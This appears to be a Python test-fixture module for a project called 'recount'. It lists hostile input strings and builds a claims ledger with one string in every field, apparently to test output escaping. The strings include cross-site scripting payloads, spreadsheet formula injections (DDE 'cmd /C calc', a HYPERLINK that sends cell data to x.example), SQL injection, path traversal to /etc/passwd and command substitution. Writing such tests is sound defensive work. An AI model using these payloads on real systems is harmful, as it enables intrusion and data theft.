"""Strings that try to run, to break out or to steer, and a ledger with one in every field.

Each is what a hostile document could hold. `injected` gives a small ledger in
which every field that a document can fill holds such a string, and nothing else.
"""

from __future__ import annotations

from itertools import product

from recount.model.claim import Claim, Hop, Named, Quantity
from recount.model.document import Document, Failure, Published, Zone, digest
from recount.model.ledger import (
    Bracket,
    Entity,
    Event,
    Finding,
    Ledger,
    LeftOut,
    Member,
    Origin,
    Reason,
)
from recount.model.span import Span
from recount.model.times import TimeInterval

SCRIPTS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://x.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<form action='javascript:alert(1)'><button>x</button></form>",
    "<base href='http://x.example/'>",
    "<meta http-equiv=refresh content='0;url=http://x.example/'>",
    "<link rel=stylesheet href=http://x.example/x.css>",
    "<style>@import 'http://x.example/x.css';</style>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "<marquee onstart=alert(1)>",
    "<xss style='animation-name:x' onanimationstart=alert(1)>",
)
BREAKS = ("", "\"'>", "</title>", "</style>", "--><!-- ", "]]>", "</svg></td>", "'\"--></textarea>")
FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://x.example/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("http://x.example/")',
    '=IMPORTXML("http://x.example/","//a")',
    '=DDE("cmd";"/C calc";"x")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "{=1+1}",
    "=\t1",
    '="a""b"',
)
LEADS = ("", " ", "\t", "\r", "\n", "a;", "a,", '"', '","', "'", "\ufeff", "\u200b")
CSV = (
    "a,b\",\"c\r\nd", "\"", "\"\"", "a\"b", ",,,,", ";;;;", "a\tb\tc", "a|b|c", "sep=;", "a\rb",
    "a\r\nb", "\r\n", "\n\n\n", "\"=1\"", "'=1", "''", "a\n=1", "a\r=1", "a\t=1", "a|=1",
)  # fmt: skip
XML = (
    "&lt;b&gt;", "&amp;amp;", "&#60;script&#62;", "&#x3c;x", "&nbsp;", "&", "<", ">", "<!--", "-->",
    "<![CDATA[x]]>", "<?xml version='1.0'?>", "<!DOCTYPE x [<!ENTITY a 'b'>]>&a;", "<?php x ?>",
    "<r>&</r>", "<r><t>x</t></r>", "<f>1+1</f>", "</t></si><si><t>x", "_x000D_", "_x003C_", "\x0b",
    "\x0c\x1f", "\ufffe", "\uffff", "<x xmlns:x='y'/>", "</a:t>", "\x1b", "\x7f\x80",
)  # fmt: skip
MARKDOWN = (
    "# x", "## x", "- x", "* x", "+ x", "1. x", "1) x", "> x", "    x", "\tx", "```\nx", "~~~x",
    "`x`", "``x``", "*x*", "**x**", "_x_", "__x__", "~~x~~", "[x](http://x.example/)",
    "[x](javascript:alert(1))", "![x](http://x.example/x.png)", "[x]: http://x.example/", "[x][y]",
    "[^1]", "[^1]: x", "<http://x.example/>", "<a@x.example>", "| a | b |\n|---|---|", "a | b", "|",
    "---", "***", "===", "x\n===", "x\n---", "\\", "\\\\", "\\`", "x  \ny", "x\\\ny", "&copy;",
    "$x$", "$$x$$", "- [ ] x", ":x:", "==x==", "^x^", "x\n\n# y", "<div>\n\nx", "{#x}", "[[x]]",
)  # fmt: skip
ADDRESSES = (
    "http://x.example/", "https://x.example/?a=b&c=d#e", "www.x.example", "//x.example/",
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\nscript:alert(1)", "vbscript:x",
    "data:text/html,<script>alert(1)</script>", "file:///etc/passwd", "ftp://x.example/",
    "mailto:a@x.example", "tel:1", "\\\\x.example\\share", "internal:claims!A1",
    "external:c:\\x.xlsx", "http://[::1]/", "http://x.example\u202egpj.exe", "urn:x:y",
    "blob:http://x.example/x", "a@x.example", "smb://x.example/x", "jar:http://x.example!/x",
    "view-source:http://x.example/", "about:blank",
)  # fmt: skip
PATHS = (
    "../../etc/passwd", "..\\..\\x", "/etc/passwd", "C:\\x", "CON", "x/../../y", "./.x", "~/x",
    "a/b/c", ".", "..", "x" * 300, "-rf", "$(id)", "`id`", "; rm x", "| x", "%2e%2e%2f", "x.html",
)  # fmt: skip
STEERING = (
    "\u202ex", "\u202dx\u202c", "\u2066x\u2069", "\u2067x", "\u200ex\u200f", "\u061cx",
    "\u2028", "\u2029", "\ufeffx", "\x1b[31mx", "\x1b]0;x\x07", "\x9b31m", "\x07", "\x08x",
    "x\u0301\u0302\u0303", "\U000e0041", "ﷺ", "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\U00020000", "שלום", "السلام",
)  # fmt: skip
TEMPLATES = (
    "{{7*7}}", "{%x%}", "{#x#}", "{{config}}", "${7*7}", "#{7*7}", "<%=7*7%>", "{0}", "{x}", "{}",
    "%s", "%(x)s", "%n", "{{''.__class__}}", "{{x|safe}}", "{%raw%}", "{title}", "{claims}", "$1",
    "\\1", "\\g<0>",
)  # fmt: skip
DATA = (
    "'; DROP TABLE claims; --", "' OR '1'='1", "\"}", "\"],[\"", "\\u0000", "\\\"", "null", "None",
    "NaN", "true", "-5", "0x10", "1e5", "007", "__proto__", "constructor", "sha256:x", "@context",
    "urn:recount:span:c1", "//", "/* x */", "\n{\"a\":1}",
)  # fmt: skip

INJECTIONS: tuple[str, ...] = tuple(
    dict.fromkeys(
        (
            *(broken + script for broken, script in product(BREAKS, SCRIPTS)),
            *(lead + formula for lead, formula in product(LEADS, FORMULAS)),
            *(*CSV, *XML, *MARKDOWN, *ADDRESSES, *PATHS, *STEERING, *TEMPLATES, *DATA),
        )
    )
)


def injected(words: str) -> Ledger:
    """A document, a claim, a matter and all else, with `words` wherever a document speaks."""
    text = f"{words}\n{words} said {words} killed {words} and {words} in {words} by {words}.\n"
    places: list[Span] = []
    at = 0
    while (at := text.find(words, at)) >= 0 and len(places) < 7:
        places.append(Span.of(text, at, at + len(words)))
        at += len(words)
    home, *spans = places
    document = Document(
        digest(text.encode()), words, text, digest(text.encode()),
        (Zone("title", 0, home.end), Zone("body", home.end, len(text))),
        title=words, outlet=words, agencies=(words, words), url=words, notes=(words,),
        published=Published("2031-03-04", "2031-03-05", "stated", words, home),
    )  # fmt: skip
    voice, actor, act, victim, place, ground = spans
    claim = Claim(
        id="c1",
        document=document.id,
        span=act,
        act="killing",
        stance="alleged",
        method=words,
        attribution=(Hop(words, voice, words, "e1", also=(Named(words, voice),)),),
        basis=(Named(words, ground),),
        perpetrators=(Named(words, actor, "e1"), Named(words, actor)),
        victims=(Named(words, victim, "e2"),),
        place=Named(words, place, "e3"),
        when=TimeInterval("2031-03", "2031-03", words),
        quantity=Quantity(3, None, "total", words, "at-least", words, victim),
    )
    kinds = {"e1": "organisation", "e2": "person", "e3": "place"}
    entities = tuple(Entity(e, kind, words, (words, words), (words,)) for e, kind in kinds.items())
    reasons = (Reason("same_place", words, ("c1",)),)
    bracket = Bracket("ucdp", 3, None, 5, ("c1",), words, (LeftOut("c1", words),), "fair")
    when = TimeInterval("2031-03", "2031-03", words)
    event = Event("v1", words, "killing", "e3", when, ("c1",),
                  (Origin("e1", ("c1",), words, reasons),), (bracket,),
                  (Member("c1", reasons),))  # fmt: skip
    findings = (
        Finding("f1", "denied", "v1", ("c1",), words, reasons),
        Finding("f2", "hedge-lost", "v1", ("c1",), words, reasons),
    )
    failure = Failure(words, words)
    return Ledger((document,), (), (claim,), entities, (event,), findings, (failure,))
